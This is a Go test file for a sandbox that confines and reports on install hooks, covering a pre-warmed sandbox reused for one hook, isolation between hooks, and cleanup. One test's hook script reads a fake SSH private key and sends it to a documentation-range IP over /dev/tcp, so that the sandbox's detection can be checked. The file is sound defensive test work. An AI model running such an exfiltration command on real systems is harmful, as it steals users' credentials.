package sandbox

import (
	"os"
	"path/filepath"
	"strings"
	"testing"
)

// warmFixture is a home with a project, a secret and a scratch place of
// the test's own (so that what a run leaves there can be counted).
type warmFixture struct {
	home, proj, scratch string
	cfg                 Config
}

func newWarmFixture(t *testing.T) warmFixture {
	t.Helper()
	sandboxOrSkip(t)
	self, _ := os.Executable()
	root := t.TempDir()
	f := warmFixture{home: filepath.Join(root, "home"), scratch: filepath.Join(root, "scratch")}
	f.proj = filepath.Join(f.home, "proj")
	for _, d := range []string{f.proj, filepath.Join(f.home, ".ssh"), f.scratch} {
		if err := os.MkdirAll(d, 0o755); err != nil {
			t.Fatal(err)
		}
	}
	os.WriteFile(filepath.Join(f.home, ".ssh", "id_rsa"), []byte("-----BEGIN OPENSSH PRIVATE KEY-----\nwarmkeymaterial42\n"), 0o600)
	os.WriteFile(filepath.Join(f.proj, "keep"), []byte("real\n"), 0o644)
	f.cfg = Config{Init: self, Isolate: true, Home: f.home, Project: f.proj, TempDir: f.scratch, Warm: NewWarm()}
	t.Cleanup(f.cfg.Warm.Close)
	return f
}

// scratchLeft counts the scratch folders a run left.
func (f warmFixture) scratchLeft(t *testing.T) int {
	t.Helper()
	ents, err := os.ReadDir(f.scratch)
	if err != nil {
		t.Fatal(err)
	}
	return len(ents)
}

// TestWarmRunsTheFirstHookInTheProbedSandbox: with a Warm, the sandbox the
// probe set up runs the dry run's first hook (one set-up, not two), and
// that hook is confined, observed and reported exactly as in a sandbox of
// its own: its writes land nowhere real and are listed, the secret it
// reads and sends is named, its input's marker is spotted in what it
// sends (the markers reach a parked supervisor with the hook), and the
// probe left nothing the hook can see (an empty /tmp, no process but the
// supervisor and the hook's own).
func TestWarmRunsTheFirstHookInTheProbedSandbox(t *testing.T) {
	f := newWarmFixture(t)
	if err := Probe(f.cfg); err != nil {
		t.Fatalf("Probe: %v", err)
	}
	parked := f.cfg.Warm.parked
	if parked == nil {
		t.Fatal("the probe's supervisor is not parked")
	}
	cfg := f.cfg
	cfg.Markers = []string{"warm-session-3f9a1c"}
	script := strings.Join([]string{
		`echo pwned > keep`,
		`echo new > made`,
		`key=$(cat ~/.ssh/id_rsa | tail -1)`,
		`printf '%s warm-session-3f9a1c\n' "$key" > /dev/tcp/203.0.113.9/9999`,
		`echo "tmp:$(ls -A /tmp | wc -l)"`,
		`echo "procs:$(ls /proc | grep -c '^[0-9]')"`,
		`echo "stdin:$(cat)"`,
	}, "; ")
	r := runScript(t, cfg, f.proj, script, "the-payload", testEnv(f.home))
	// the same hook in a sandbox of its own: what it sees there is what
	// it must see in the probed one (a mount point under /tmp, say)
	alone := cfg
	alone.Warm = nil
	base := runScript(t, alone, f.proj, script, "the-payload", testEnv(f.home))
	if f.cfg.Warm.parked != nil {
		t.Error("the parked supervisor was not taken by the first hook")
	}
	if r.err != nil || !r.exit.Exited || r.exit.Code != 0 {
		t.Fatalf("the hook did not run as asked: %+v %v\n%s", r.exit, r.err, r.stderr)
	}
	if !strings.Contains(r.stdout, "stdin:the-payload") || r.stdout != base.stdout {
		t.Errorf("the hook saw another sandbox than a fresh one (its /tmp, its processes, its input):\n%s\nfresh:\n%s", r.stdout, base.stdout)
	}
	if b, _ := os.ReadFile(filepath.Join(f.proj, "keep")); string(b) != "real\n" {
		t.Errorf("a real file changed: %q", b)
	}
	if _, err := os.Stat(filepath.Join(f.proj, "made")); err == nil {
		t.Error("a file the hook made reached the real project")
	}
	rep := r.report
	if rep == nil {
		t.Fatal("no report")
	}
	changed := map[string]string{}
	for _, fc := range rep.Files {
		changed[filepath.Base(fc.Path)] = fc.Change
	}
	if changed["keep"] != Changed || changed["made"] != Created {
		t.Errorf("the report's files: %+v", rep.Files)
	}
	if len(rep.Secrets) == 0 || !strings.HasSuffix(rep.Secrets[0].Path, "id_rsa") {
		t.Errorf("the secret read is not named: %+v", rep.Secrets)
	}
	input, secret := false, false
	for _, n := range rep.Network {
		input = input || n.SendsInput
		secret = secret || strings.HasSuffix(n.SendsSecret, "id_rsa")
	}
	if !input || !secret {
		t.Errorf("what the hook sent is not judged (input %v, secret %v): %+v", input, secret, rep.Network)
	}
	if n := f.scratchLeft(t); n != 0 {
		t.Errorf("%d scratch folder(s) left", n)
	}
}

// TestWarmServesOneHook: the parked sandbox serves one hook; the next one
// of the same dry run gets a sandbox of its own and sees nothing the first
// left (its files, a process it left running).
func TestWarmServesOneHook(t *testing.T) {
	f := newWarmFixture(t)
	if err := Probe(f.cfg); err != nil {
		t.Fatalf("Probe: %v", err)
	}
	first := runScript(t, f.cfg, f.proj, `echo left > mark; echo left > /tmp/mark; (setsid sleep 300 >/dev/null 2>&1 &); echo ok`, "", testEnv(f.home))
	if !strings.Contains(first.stdout, "ok") {
		t.Fatalf("the first hook: %+v %v %s", first.exit, first.err, first.stderr)
	}
	second := runScript(t, f.cfg, f.proj, `ls mark /tmp/mark 2>&1; pgrep -x sleep || echo no-sleep`, "", testEnv(f.home))
	if strings.Contains(second.stdout, "left") || !strings.Contains(second.stdout, "No such file") || !strings.Contains(second.stdout, "no-sleep") {
		t.Errorf("the second hook sees what the first left:\n%s", second.stdout)
	}
	if n := f.scratchLeft(t); n != 0 {
		t.Errorf("%d scratch folder(s) left", n)
	}
}

// TestWarmTakesOnlyItsOwnSandbox: a hook whose sandbox differs from the
// parked one (another folder, a writable folder the probe did not bind)
// starts in one of its own and leaves the parked one alone; Close ends
// the parked supervisor and removes its scratch layers.
func TestWarmTakesOnlyItsOwnSandbox(t *testing.T) {
	f := newWarmFixture(t)
	if err := Probe(f.cfg); err != nil {
		t.Fatalf("Probe: %v", err)
	}
	sub := filepath.Join(f.proj, "sub")
	os.MkdirAll(sub, 0o755)
	r := runScript(t, f.cfg, sub, `pwd`, "", testEnv(f.home))
	if strings.TrimSpace(r.stdout) != sub {
		t.Errorf("the hook in %s: %q %v", sub, r.stdout, r.err)
	}
	cfg := f.cfg
	cfg.Writable = []string{t.TempDir()}
	runScript(t, cfg, f.proj, `true`, "", testEnv(f.home))
	parked := f.cfg.Warm.parked
	if parked == nil {
		t.Fatal("a hook of another sandbox took the parked supervisor")
	}
	if n := f.scratchLeft(t); n != 1 {
		t.Errorf("%d scratch folder(s) while one supervisor is parked", n)
	}
	f.cfg.Warm.Close()
	select {
	case <-parked.waited:
	default:
		t.Error("Close returned with the parked supervisor still running")
	}
	if n := f.scratchLeft(t); n != 0 {
		t.Errorf("%d scratch folder(s) left after Close", n)
	}
	// a probe after Close sets nothing up that would be left behind
	if err := Probe(f.cfg); err != nil {
		t.Fatalf("Probe after Close: %v", err)
	}
	if f.cfg.Warm.parked != nil || f.scratchLeft(t) != 0 {
		t.Error("a probe after Close left a parked supervisor")
	}
}
